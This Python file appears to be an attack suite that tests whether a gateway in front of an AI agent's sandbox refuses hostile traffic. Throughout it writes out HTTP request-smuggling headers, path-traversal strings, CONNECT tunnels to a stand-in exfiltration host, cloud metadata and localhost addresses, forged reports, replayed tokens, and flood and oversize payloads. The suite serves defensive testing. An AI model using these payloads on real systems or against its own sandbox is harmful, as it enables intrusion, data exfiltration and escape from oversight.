"""Attacks through the gateway: what it must refuse, drop or never pass on."""
import base64
import json
import os
import socket
import time

from frame import (
    PACKET_SECONDS, Refused, Sent, Untried, agent_token, attack, exchange, gateway_address, judged, status, to_gateway,
)

# Larger than any header block and any request that a gateway has a reason to take.
HEAD_BYTES = 256 * 1024
BODY_BYTES = 33 * 1024 * 1024
# Almost as large as a request may be, and nothing but keys. Made in pieces: a list of them all takes too much memory.
KEY_PIECES = 732
KEYS_PER_PIECE = 4096
# Calls that are hung up on, each a little later than the one before: while the gateway reads, while it asks, while it
# waits. Of their size the judge knows what they cost. The pause is for the gateway's limit of calls at once.
HANG_UPS = 20
HANG_UP_BYTES = 40_000
HANG_UP_SECONDS = 0.001
HANG_UP_PAUSE_SECONDS = 0.2
CONNECTIONS = 400
CONNECTIONS_HELD = 128
GIFT_SECONDS = 90


def message(parameters, **more):
    """A request for the model that carries the attack's name, so that it is found again at the model."""
    body = {"model": "scripted", "max_tokens": 16, "messages": [{"role": "user", "content": parameters["marker"]}]}
    body.update(more)
    return json.dumps(body).encode()


def request(parameters, line, headers=(), body=b"", token=None, send=exchange):
    """One request with the agent's own token, unless the attack brings another one."""
    token = agent_token(parameters) if token is None else token
    host, port = gateway_address(parameters)
    head = [line + " HTTP/1.1", "Host: %s:%d" % (host, port), "Connection: close", "Content-Length: %d" % len(body)]
    if token:
        head.append("Authorization: Bearer " + token)
    head += ["anthropic-version: 2023-06-01", "Content-Type: application/json"]
    payload = "\r\n".join(head + list(headers)).encode() + b"\r\n\r\n" + body
    return send(parameters, payload)


def refused_unless(parameters, good, answer, what, name=None):
    if good:
        return "%s: %s" % (what, answer[:80])
    raise Refused(judged(parameters, what, answer, name))


def gift(parameters, name):
    """What a real attacker would have got by other ways: tokens of this run's past and of other runs."""
    until = time.monotonic() + GIFT_SECONDS
    while True:
        gifts = parameters.get("gifts")
        if isinstance(gifts, str):
            try:
                with open(gifts) as file:
                    gifts = json.load(file)
            except (OSError, ValueError):
                gifts = None
        if gifts:
            return gifts[name]
        if time.monotonic() > until:
            raise Untried("nobody gave it the token %s" % name)
        time.sleep(0.1)


@attack("gw-foreign-key")
def foreign_key(parameters):
    header = "x-api-key: %s-foreign" % parameters["marker"]
    answer = request(parameters, "POST /llm/v1/messages", [header], message(parameters))
    raise Sent(judged(parameters, "answered", answer))


@attack("gw-client-headers")
def client_headers(parameters):
    mark = parameters["marker"] + "-header"
    names = ("Cookie", "X-Forwarded-For", "Forwarded", "Via", "X-Real-IP", "Proxy-Authorization")
    answer = request(parameters, "POST /llm/v1/messages", ["%s: %s" % (name, mark) for name in names], message(parameters))
    raise Sent(judged(parameters, "answered", answer))


@attack("gw-model-path")
def other_path(parameters):
    answers = []
    for line in ("GET /llm/v1/models", "POST /llm/v1/files", "GET /llm/_requests", "GET /llm/healthz",
                 "DELETE /llm/_requests", "PUT /llm/v1/messages"):
        answer = request(parameters, line)
        if 200 <= status(answer) < 300:
            return "%s: %d" % (line, status(answer))
        answers.append(judged(parameters, line, answer))
    raise Refused("; ".join(answers))


@attack("gw-path-escape")
def path_escape(parameters):
    answers = []
    for path in ("/llm/v1/messages/../models", "/llm/v1/%2e%2e/_requests", "/llm//_requests", "/llm/v1/..%2f_requests",
                 "/llm/v1/messages/%2e%2e/models", "/llm/../llm/_requests", "/llm/v1\\models", "/llm/v1/models;x"):
        answer = request(parameters, "GET " + path)
        if status(answer) == 200:
            return path
        answers.append(judged(parameters, path, answer))
    raise Refused("; ".join(answers))


@attack("gw-host-header")
def host_header(parameters):
    forge = parameters["forges"][0]
    answers = []
    for line, host in (("GET /api/healthz", forge), ("GET http://%s/api/healthz" % forge, forge)):
        payload = "%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nAuthorization: Bearer %s\r\n\r\n"
        answer = exchange(parameters, (payload % (line, host, agent_token(parameters))).encode())
        if status(answer) == 200 and b'"status"' in answer:
            return line
        answers.append(judged(parameters, line, answer))
    raise Refused("; ".join(answers))


def tunnels(parameters, targets):
    login = base64.b64encode(("agent:" + agent_token(parameters)).encode()).decode()
    answers = []
    for target in targets:
        payload = "CONNECT %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (target, target, login)
        answer = exchange(parameters, payload.encode(), pause_after=lambda text: b"\r\n\r\n" in text)
        if status(answer) == 200:
            return "a tunnel to " + target
        answers.append(judged(parameters, target, answer))
    raise Refused("; ".join(answers))


TUNNELS = {
    "gw-connect-model": lambda p: ["api.anthropic.com:443"] + p["models"],
    "gw-connect-forge": lambda p: ["github.com:443", "api.github.com:443"] + p["forges"],
    "gw-connect-unlisted": lambda p: ["exfiltrated.example:443", "exfiltrated.example:80", "github.com.exfiltrated.example:443"],
    "gw-connect-address": lambda p: p["sinks"] + ["1.1.1.1:443", "[2606:4700::1111]:443"],
    "gw-connect-private": lambda p: ["127.0.0.1:8080", "localhost:8080", "[::1]:8080", "0x7f000001:8080", "2130706433:8080",
                                     "[::ffff:127.0.0.1]:8080"] + p["apiServices"] + p["kubelets"] + p["hostPorts"],
    "gw-connect-metadata": lambda p: ["169.254.169.254:80", "[fd00:ec2::254]:80", "metadata.google.internal:80"] + p["metadata"],
    "gw-connect-dns": lambda p: p["dns"] + ["kube-dns.kube-system.svc.cluster.local:53", "8.8.8.8:53"],
}
for name, targets in TUNNELS.items():
    attack(name)(lambda parameters, targets=targets: tunnels(parameters, targets(parameters)))


def two_in_one(parameters, heads, smuggled_line="GET /healthz"):
    """Sends a request that can be read in two ways; more than one answer means that the second reading was taken."""
    host, port = gateway_address(parameters)
    smuggled = "%s HTTP/1.1\r\nHost: x\r\n\r\n" % smuggled_line
    answers = []
    for head in heads:
        text = "POST /llm/v1/messages HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\n%s\r\n\r\n"
        payload = (text % (host, port, agent_token(parameters), head)).encode() + b"0\r\n\r\n" + smuggled.encode()
        answer = exchange(parameters, payload, seconds=3.0)
        if answer.count(b"HTTP/1.1 ") > 1:
            return "%r: %d answers" % (head, answer.count(b"HTTP/1.1 "))
        answers.append(judged(parameters, "%r" % head, answer))
    raise Refused("; ".join(answers))


@attack("gw-smuggle-both-lengths")
def smuggle_both(parameters):
    return two_in_one(parameters, ["Content-Length: 5\r\nTransfer-Encoding: chunked",
                                   "Transfer-Encoding: chunked\r\nContent-Length: 5"])


@attack("gw-smuggle-odd-lengths")
def smuggle_odd(parameters):
    return two_in_one(parameters, [
        "Content-Length: 5\r\nContent-Length: 0", "Content-Length: +5", "Content-Length: 5, 5", "Content-Length : 5",
        "Content-Length: 5\r\nTransfer-Encoding: xchunked", "Content-Length: 5\r\nTransfer-Encoding : chunked",
        "Content-Length: 5\r\nX: y\r\n Transfer-Encoding: chunked", "Content-Length: 5\r\nTransfer-Encoding: identity",
        "Content-Length: 5\r\nTransfer-Encoding:\x0bchunked", "Content-Length: 5\nTransfer-Encoding: chunked",
    ])


@attack("gw-websocket")
def websocket(parameters):
    headers = ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
               "Sec-WebSocket-Version: 13"]
    answer = request(parameters, "GET /llm/v1/messages", headers)
    return refused_unless(parameters, status(answer) == 101, answer, "upgrade")


def redeem(parameters, token):
    body = json.dumps({"nonce": os.urandom(16).hex()}).encode()
    answer = request(parameters, "POST /v1/redeem", body=body, token=token)
    return refused_unless(parameters, status(answer) == 200, answer, "redeem")


@attack("gw-replay-one-time")
def replay(parameters):
    return redeem(parameters, gift(parameters, "oneTime"))


@attack("gw-foreign-one-time")
def foreign_one_time(parameters):
    return redeem(parameters, gift(parameters, "otherOneTime"))


def act(parameters, token):
    """Model and git, with a token of whoever."""
    answer = request(parameters, "POST /llm/v1/messages", body=message(parameters), token=token)
    if status(answer) == 200:
        return "a model request"
    login = base64.b64encode(("agent:" + token).encode()).decode() if token else ""
    line = "GET /git/%s.git/info/refs?service=git-upload-pack" % parameters["repository"]
    refs = request(parameters, line, ["Authorization: Basic " + login] if login else [], token="")
    model = judged(parameters, "model", answer)
    return refused_unless(parameters, status(refs) == 200, refs, model + ", git")


@attack("gw-other-run-token")
def other_run(parameters):
    return act(parameters, gift(parameters, "other"))


@attack("gw-dead-token")
def dead_token(parameters):
    return act(parameters, gift(parameters, "dead"))


@attack("gw-no-token")
def no_token(parameters):
    return act(parameters, "")


@attack("gw-forged-report")
def forged_report(parameters):
    result = {"reason": "Completed", "message": "forged", "exitCode": 0, "events": 0,
              "facts": {}, "reportedUsage": {"turns": 0, "inputTokens": 0, "outputTokens": 0}}
    publish = {"repository": parameters["repository"], "commit": "0" * 40}
    answers = []
    for line, body in (
        ("POST /v1/result", result), ("POST /v1/publish", publish), ("POST /v1/gate", {"sandbox": {}}),
        ("POST /v1/events", {"first": 0, "records": []}), ("GET /v1/step", None), ("GET /v1/orders", None),
        ("POST /v1/pull-request", {"title": "forged", "body": parameters["marker"]}),
    ):
        answer = request(parameters, line, body=json.dumps(body).encode() if body is not None else b"")
        if 200 <= status(answer) < 300:
            return "%s: %d" % (line, status(answer))
        answers.append(judged(parameters, line, answer))
    raise Refused("; ".join(answers))


@attack("gw-server-tools")
def server_tools(parameters):
    answers = []
    for more in (
        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
        {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
        {"mcp_servers": [{"type": "url", "url": "https://exfiltrated.example/mcp", "name": "x"}]},
        {"messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "url", "url": "https://exfiltrated.example/x.png"}}]}]},
    ):
        answer = request(parameters, "POST /llm/v1/messages", body=message(parameters, **more))
        if status(answer) == 200:
            return json.dumps(more)
        answers.append(judged(parameters, next(iter(more)), answer))
    raise Refused("; ".join(answers))


@attack("gw-oversize-head")
def oversize_head(parameters):
    answer = request(parameters, "POST /llm/v1/messages", ["X-Padding: " + "x" * HEAD_BYTES], message(parameters))
    what = "%d bytes of header" % HEAD_BYTES
    return refused_unless(parameters, status(answer) == 200, answer, what, "gw-oversize-head")


@attack("gw-oversize-body", alone=True)
def oversize_body(parameters):
    body = message(parameters, system="x" * BODY_BYTES)
    answer = request(parameters, "POST " + parameters.get("bodyPath", "/llm/v1/messages"), body=body)
    return refused_unless(parameters, status(answer) == 200, answer, "%d bytes of body" % BODY_BYTES, "gw-oversize-body")


@attack("gw-json-keys", alone=True)
def json_keys(parameters):
    pieces = (range(first * KEYS_PER_PIECE, (first + 1) * KEYS_PER_PIECE) for first in range(KEY_PIECES))
    keys = b",".join(b",".join(b'"%x":0' % key for key in piece) for piece in pieces)
    body = b'{"model":"scripted","max_tokens":16,"messages":[],"metadata":{%s}}' % keys
    answer = request(parameters, "POST /llm/v1/messages", body=body)
    return refused_unless(parameters, status(answer) == 200, answer, "%d keys" % (KEY_PIECES * KEYS_PER_PIECE))


@attack("gw-hang-up", alone=True)
def hang_up(parameters):
    """Calls of the model whose answers nobody waits for: who watches outside knows what they were charged."""
    mark = "%s-hang-up %s" % (parameters["marker"], "x" * HANG_UP_BYTES)
    body = message(dict(parameters, marker=mark))
    for number in range(HANG_UPS):

        def send(parameters, payload):
            with to_gateway(parameters) as stream:
                stream.sendall(payload)
                time.sleep(number * HANG_UP_SECONDS)

        request(parameters, "POST /llm/v1/messages", body=body, send=send)
        time.sleep(HANG_UP_PAUSE_SECONDS)
    # Whoever is not there cannot be hung up on either.
    answer = request(parameters, "POST /llm/v1/messages", body=message(parameters))
    raise Sent(judged(parameters, "%d calls, and one that was waited for" % HANG_UPS, answer))


@attack("gw-connection-flood", alone=True)
def connection_flood(parameters):
    held, failed = [], None
    try:
        for _ in range(CONNECTIONS):
            held.append(socket.create_connection(gateway_address(parameters), timeout=PACKET_SECONDS))
    except OSError as error:
        failed = error
    # One that was not taken is closed at once; one that was waits for a request.
    time.sleep(0.5)
    alive = 0
    for stream in held:
        stream.settimeout(0.001)
        try:
            alive += stream.recv(1) != b""
        except TimeoutError:
            alive += 1
        except OSError:
            pass
        stream.close()
    if alive > CONNECTIONS_HELD:
        return "%d connections" % alive
    if not alive:
        # A limit lets some in; where nobody gets in, nobody was there.
        raise Untried("none of %d stays open (%s)" % (len(held), failed))
    raise Refused("%d of %d stay open (%s)" % (alive, len(held), failed))
